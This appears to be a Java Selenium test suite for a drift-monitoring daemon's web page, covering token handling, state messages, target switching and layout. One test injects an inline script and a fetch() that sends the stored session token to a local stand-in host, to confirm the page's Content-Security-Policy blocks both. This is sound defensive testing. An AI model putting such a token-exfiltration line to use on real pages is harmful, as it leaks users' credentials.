package dev.drift.serve.web;

import static org.assertj.core.api.Assertions.assertThat;

import dev.drift.Chromium;
import dev.drift.config.WebConfig;
import dev.drift.finding.FailOn;
import dev.drift.report.HostileReports;
import dev.drift.report.SampleReports;
import dev.drift.report.SampleTimelines;
import dev.drift.serve.state.StaleKind;
import dev.drift.serve.state.TargetState;
import java.io.IOException;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.openqa.selenium.Keys;
import org.openqa.selenium.OutputType;

/// The page that the daemon serves, as Chromium shows it.
@Tag("browser")
class LivePageTest {
  private static Chromium chromium;

  @BeforeAll
  static void start() {
    chromium = Chromium.start();
  }

  @AfterAll
  static void stop() {
    chromium.close();
  }

  @BeforeEach
  void nothingIsRemembered() {
    chromium.open("about:blank");
  }

  private static TargetState target(String name) {
    return TestDaemon.drifted(name);
  }

  private static TargetState at(TargetState state, Instant update) {
    return at(state, update, state.nextCheck());
  }

  private static TargetState at(TargetState state, Instant update, Optional<Instant> next) {
    return new TargetState(
        state.id(),
        state.name(),
        state.latest(),
        state.failOn(),
        state.lastCheck(),
        Optional.of(update),
        next,
        state.runningSince(),
        state.failure(),
        state.watching(),
        state.stale(),
        state.acts(),
        state.queued());
  }

  /// Opens the page and enters the token.
  private static void open(TestDaemon daemon) throws InterruptedException {
    chromium.open(daemon.url("/"));
    enter(TestDaemon.TOKEN);
    chromium.eventually("a report", () -> chromium.count("#compared > dt") > 0);
  }

  private static void enter(String token) throws InterruptedException {
    chromium.eventually("the token is asked for", () -> chromium.find("#token").isDisplayed());
    chromium.find("#token").sendKeys(token, Keys.ENTER);
  }

  private static List<String> headings() {
    return chromium.texts("#findings > details:not([hidden]) > summary > b");
  }

  private static void press(String keys) {
    chromium.find("body").sendKeys(keys);
  }

  @Test
  void theShellHoldsNothingAndAsksForTheToken() throws Exception {
    try (TestDaemon daemon = new TestDaemon()) {
      HttpResponse<String> shell = Calls.call("GET", daemon.url("/"), "");
      assertThat(shell.statusCode()).isEqualTo(200);
      assertThat(shell.body()).doesNotContain("prod", "trino", TestDaemon.TOKEN);
      assertThat(shell.headers().firstValue("Content-Security-Policy").orElse(""))
          .contains("default-src 'none'", "connect-src 'self'", "frame-ancestors 'none'")
          .doesNotContain("unsafe");
      assertThat(shell.headers().firstValue("Set-Cookie")).isEmpty();

      chromium.open(daemon.url("/"));
      enter("a-token-that-is-wrong");
      chromium.eventually(
          "the token is refused",
          () -> chromium.text("#refused").startsWith("The daemon refused this token."));
      assertThat(chromium.find("#token").getAttribute("value")).isEmpty();
      assertThat(chromium.text("body")).doesNotContain("trino");

      enter(TestDaemon.TOKEN);
      chromium.eventually(
          "the findings", () -> chromium.text("#answer").startsWith("7 differences, 2 critical"));
      assertThat(chromium.find("#ask").isDisplayed()).isFalse();
      assertThat(headings()).first().isEqualTo("Secret trino/s3-credentials");
      assertThat(chromium.driver().getTitle()).startsWith("Drift: 7 differences");
      assertThat(chromium.driver().getCurrentUrl()).isEqualTo(daemon.url("/"));
      assertThat(chromium.requests())
          .allMatch(it -> it.contains(daemon.url("/")))
          .noneMatch(
              it -> it.replaceFirst(".*\"url\":\"([^\"]*)\".*", "$1").contains(TestDaemon.TOKEN));
      assertThat(chromium.violations()).isEmpty();
      // A browser complains of each answer 401 by itself.
      assertThat(chromium.complaints()).allMatch(it -> it.contains("401"));
    }
  }

  @Test
  void theTokenLastsAsLongAsTheTab() throws Exception {
    try (TestDaemon daemon = new TestDaemon()) {
      open(daemon);

      chromium.driver().navigate().refresh();
      chromium.eventually("a report", () -> chromium.count("#compared > dt") > 0);
      assertThat(chromium.driver().manage().getCookies()).isEmpty();

      chromium.find("#forget").click();
      assertThat(chromium.find("#token").isDisplayed()).isTrue();
      assertThat(chromium.text("body")).doesNotContain("trino");
      chromium.driver().navigate().refresh();
      chromium.eventually("it is asked for", () -> chromium.find("#token").isDisplayed());
    }
  }

  @Test
  void aDaemonWithoutATokenSaysSo() throws Exception {
    WebConfig closed =
        new WebConfig(
            TestDaemon.CONFIG.listen(),
            Optional.empty(),
            Optional.empty(),
            false,
            Optional.empty(),
            Optional.empty());
    try (TestDaemon daemon = new TestDaemon(closed, TestDaemon.SECRETS, List.of(target("prod")))) {
      chromium.open(daemon.url("/"));

      assertThat(chromium.text("#answer")).isEqualTo("This daemon shows nothing: it has no token.");
      assertThat(chromium.text("#closing")).contains("serve.token");
      assertThat(chromium.find("#ask").isDisplayed()).isFalse();
      assertThat(chromium.complaints()).isEmpty();
    }
  }

  /// What stays keeps the focus, and what was opened stays open.
  @Test
  void findingsComeAndGo() throws Exception {
    try (TestDaemon daemon = new TestDaemon()) {
      var all = SampleReports.drifted();
      daemon.targets =
          List.of(
              TestDaemon.state(
                  TestDaemon.ID,
                  "prod",
                  SampleReports.report(
                      all.sources(),
                      all.coverage(),
                      all.resources(),
                      all.findings().stream()
                          .filter(it -> !it.resource().equals(SampleReports.BUDGET))
                          .toList(),
                      List.of())));
      open(daemon);
      assertThat(headings()).hasSize(5).doesNotContain("PodDisruptionBudget trino/trino-worker");
      press("cjjj");
      chromium.driver().switchTo().activeElement().sendKeys(Keys.ENTER);

      daemon.targets = List.of(at(target("prod"), Instant.parse("2026-11-29T21:00:01Z")));
      chromium.eventually("it appears", () -> headings().size() == 6);
      assertThat(chromium.texts("details[open] > summary > b"))
          .containsExactly("ConfigMap trino/trino-catalog");
      assertThat(chromium.driver().switchTo().activeElement().getText())
          .contains("ConfigMap trino/trino-catalog");

      daemon.targets =
          List.of(
              at(
                  TestDaemon.state(TestDaemon.ID, "prod", SampleReports.clean()),
                  Instant.parse("2026-11-29T21:00:02Z")));
      chromium.eventually("all end", () -> chromium.text("#answer").startsWith("In sync: "));
      assertThat(headings()).isEmpty();
      assertThat(chromium.text("body")).doesNotContain("Exit code", "s3-credentials");
      assertThat(chromium.violations()).isEmpty();
    }
  }

  @Test
  void targetsAreChosenByClickAndByKey() throws Exception {
    TargetState staging = TestDaemon.state("0123456789ac", "staging", SampleReports.clean());
    try (TestDaemon daemon =
        new TestDaemon(
            TestDaemon.CONFIG,
            TestDaemon.SECRETS,
            List.of(target("prod"), staging, TargetState.fresh("new", FailOn.ANY_DRIFT)))) {
      open(daemon);
      assertThat(chromium.texts("#targets button"))
          .containsExactly("prod 7 differences", "staging no drift", "new not checked yet");

      press("2");
      chromium.eventually("staging", () -> chromium.text("#answer").startsWith("In sync: "));
      assertThat(headings()).isEmpty();
      assertThat(chromium.driver().getCurrentUrl()).isEqualTo(daemon.url("/#staging"));

      chromium.find("#targets button:last-child").click();
      chromium.eventually("new", () -> chromium.text("#answer").equals("Not compared yet."));
      assertThat(chromium.text("#state")).isEqualTo("The first check is under way.");

      chromium.open("about:blank");
      chromium.open(daemon.url("/#staging"));
      chromium.eventually("staging", () -> chromium.text("#answer").startsWith("In sync: "));
    }
  }

  @Test
  void whatIsNotLiveIsSaid() throws Exception {
    try (TestDaemon daemon = new TestDaemon()) {
      open(daemon);
      chromium.eventually(
          "live",
          () ->
              chromium
                  .text("#state")
                  .equals("Live. Last change 11-29 20:59:30 UTC, next full check 11-29 21:20:00."));

      daemon.targets = List.of(TestDaemon.failing("prod"));
      chromium.eventually(
          "it fails",
          () ->
              chromium
                  .text("#state")
                  .equals(
                      """
                      The check fails since 11-29 20:55:00 UTC: The repository cannot be reached. What is shown is from before.
                      Drift cannot see Secret since 11-29 20:56:00 UTC: The watch is silent.
                      Last change 11-29 20:59:30 UTC."""));
      assertThat(headings()).hasSize(6);

      daemon.server.close();
      chromium.eventually(
          "it is gone",
          () -> chromium.text("#state").startsWith("No answer from the daemon since "));
      assertThat(chromium.text("#state"))
          .endsWith("What is shown may be out of date. Trying again.");
      assertThat(headings()).hasSize(6);
    }
  }

  @Test
  void aReplicaThatStandsBySaysSo() throws Exception {
    try (TestDaemon daemon =
        new TestDaemon(
            TestDaemon.CONFIG,
            TestDaemon.SECRETS,
            List.of(TargetState.fresh("prod", FailOn.ANY_DRIFT)))) {
      daemon.leader = false;
      chromium.open(daemon.url("/"));
      enter(TestDaemon.TOKEN);
      chromium.eventually("standing by", () -> chromium.text("#answer").equals("Standing by."));
      assertThat(chromium.text("#state"))
          .isEqualTo("This replica stands by; another one watches and has the findings.");
    }
  }

  @Test
  void anAgentOfAFleetSaysWhereToLook() throws Exception {
    try (TestDaemon daemon = new TestDaemon(TestDaemon.CONFIG, TestDaemon.SECRETS, List.of())) {
      chromium.open(daemon.url("/"));
      enter(TestDaemon.TOKEN);
      chromium.eventually(
          "none", () -> chromium.text("#answer").equals("This daemon follows no target."));
      assertThat(chromium.text("#closing")).contains("drift status and drift history");
    }
  }

  @Test
  void theTimelineIsThatOfTheStore() throws Exception {
    try (TestDaemon daemon = new TestDaemon()) {
      open(daemon);
      chromium.eventually("a record", () -> chromium.find("#views").isDisplayed());
      press("t");
      assertThat(chromium.texts("#timeline > details .what b")).hasSize(4);
      assertThat(chromium.text("#timeline")).contains("since 11-20 17:02, 16 h");

      daemon.storeGone = true;
      chromium.eventually(
          "it is gone",
          () -> chromium.text("#state").contains("There is no timeline at present: "));
    }
  }

  @Test
  void withoutAStoreThereIsNoTimeline() throws Exception {
    try (TestDaemon daemon = new TestDaemon()) {
      daemon.timeline = Optional.empty();
      open(daemon);
      Thread.sleep(2500);
      assertThat(chromium.find("#views").isDisplayed()).isFalse();
    }
  }

  static Stream<String> hostile() {
    return HostileReports.TEXTS.stream();
  }

  @ParameterizedTest
  @MethodSource("hostile")
  void nothingOfTextsIsObeyed(String hostile) throws Exception {
    TargetState state = TestDaemon.state(TestDaemon.ID, "prod", HostileReports.of(hostile));
    TargetState broken =
        new TargetState(
            "0123456789ac",
            "other",
            Optional.empty(),
            FailOn.ANY_DRIFT,
            Optional.empty(),
            Optional.empty(),
            Optional.empty(),
            Optional.empty(),
            Optional.of(new TargetState.Failure(TestDaemon.NOW, hostile)),
            false,
            List.of(new StaleKind(hostile, hostile, TestDaemon.NOW, hostile)),
            List.of(),
            0);
    try (TestDaemon daemon =
        new TestDaemon(TestDaemon.CONFIG, TestDaemon.SECRETS, List.of(state, broken))) {
      daemon.timeline = Optional.of(SampleTimelines.hostile(hostile));
      open(daemon);
      press("e");
      chromium.eventually("a record", () -> chromium.find("#views").isDisplayed());
      press("te2");
      // WebDriver cannot read every one of the texts.
      chromium.eventually("the other", () -> chromium.count("#state > .error") == 1);
      press("1");
      chromium.eventually("a report", () -> chromium.count("#compared > dt") > 0);

      assertThat(chromium.count("script")).isEqualTo(3);
      assertThat(chromium.count("img, iframe, a, testcase, svg, object, link")).isZero();
      assertThat(chromium.violations()).isEmpty();
      assertThat(chromium.complaints()).allMatch(it -> it.contains("401"));
    }
  }

  /// Even if a text became HTML, the policy would keep it from running, and the token from leaving.
  @Test
  void thePolicyForbidsWhatThePageDoesNotDo() throws Exception {
    try (TestDaemon daemon = new TestDaemon()) {
      open(daemon);
      chromium
          .driver()
          .executeScript(
              """
              const script = document.createElement('script');
              script.textContent = 'window.obeyed = true';
              document.body.append(script);
              fetch('http://127.0.0.1:9/?' + sessionStorage.getItem('drift-token')).catch(() => {});
              """);
      chromium.eventually(
          "both are refused",
          () -> {
            String violations = chromium.violations().toString();
            return violations.contains("script-src-elem inline")
                && violations.contains("connect-src http://127.0.0.1:9/");
          });
      assertThat(chromium.driver().executeScript("return window.obeyed === undefined"))
          .isEqualTo(true);
    }
  }

  /// Nothing is wider than the window. With `-Ddrift.pictures=FOLDER` it also takes pictures, of
  /// which docs/images has some.
  @Test
  void fitsAScreenOfAnyWidth() throws Exception {
    TargetState staging = TestDaemon.state("0123456789ac", "staging", SampleReports.clean());
    TargetState prod =
        at(
            target("prod"),
            Instant.parse("2026-11-21T09:14:04Z"),
            Optional.of(Instant.parse("2026-11-21T09:29:04Z")));
    try (TestDaemon daemon =
        new TestDaemon(TestDaemon.CONFIG, TestDaemon.SECRETS, List.of(prod, staging))) {
      for (int width : List.of(1400, 420)) {
        for (String scheme : List.of("light", "dark")) {
          chromium.prefer(scheme);
          chromium.resize(width, 1000);
          chromium.open(daemon.url("/"));
          chromium.driver().executeScript("sessionStorage.clear()");
          open(daemon);
          chromium.eventually("a record", () -> chromium.find("#views").isDisplayed());
          assertFits(width);
          picture("live", scheme, width);
          press("t");
          assertFits(width);
          picture("timeline", scheme, width);
        }
      }
    } finally {
      chromium.prefer("light");
      chromium.resize(1280, 1600);
    }
  }

  private static void assertFits(int width) {
    assertThat(
            chromium
                .driver()
                .executeScript("return document.documentElement.scrollWidth <= window.innerWidth"))
        .as("at %d pixels", width)
        .isEqualTo(true);
  }

  /// Nothing without `drift.pictures`, which names a folder.
  private static void picture(String view, String scheme, int width) throws IOException {
    String folder = System.getProperty("drift.pictures", "");
    if (!folder.isEmpty()) {
      Files.write(
          Files.createDirectories(Path.of(folder))
              .resolve("%s-%s-%d.png".formatted(view, scheme, width)),
          chromium.driver().getScreenshotAs(OutputType.BYTES));
    }
  }
}
